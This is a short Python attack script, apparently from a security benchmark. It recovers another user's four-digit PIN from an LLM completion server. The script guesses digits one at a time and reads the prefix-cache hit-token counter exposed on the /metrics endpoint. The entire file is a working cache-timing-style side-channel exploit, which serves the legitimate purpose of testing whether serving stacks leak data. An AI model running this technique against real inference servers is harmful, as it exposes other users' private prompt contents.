"""Another user's PIN, digit by digit, by what the counter of cached tokens says of each guess.

A hit leaves the last tokens of a prompt to be computed, so a guess has more text behind it.
"""

import re

import httpx

from benchmarks.attacks.target import Target

_SECRET = "7305"
_TEXT = "Remember that the code for the north gate is "
_COUNTER = re.compile(r"^bento_kv_prefix_cache_hit_tokens_total\S* (\S+)", re.MULTILINE)


async def attack(target: Target) -> None:
    async with target.client() as http:
        await _ask(target, http, f"{_TEXT}{_SECRET}. What is it?")
        known = ""
        for _ in _SECRET:
            gains: dict[str, float] = {}
            for digit in "0123456789":
                before = await _hits(http)
                await _ask(target, http, f"{_TEXT}{known}{digit} is the code.")
                gains[digit] = await _hits(http) - before
            known += max(gains, key=gains.__getitem__)
        target.outcomes["PIN read" if known == _SECRET else "PIN not read"] += 1


async def _ask(target: Target, http: httpx.AsyncClient, prompt: str) -> None:
    await target.post(http, "/v1/completions", {"model": "demo", "prompt": prompt, "max_tokens": 1})


async def _hits(http: httpx.AsyncClient) -> float:
    found = _COUNTER.search((await http.get("/metrics")).text)
    return float(found[1]) if found else 0.0
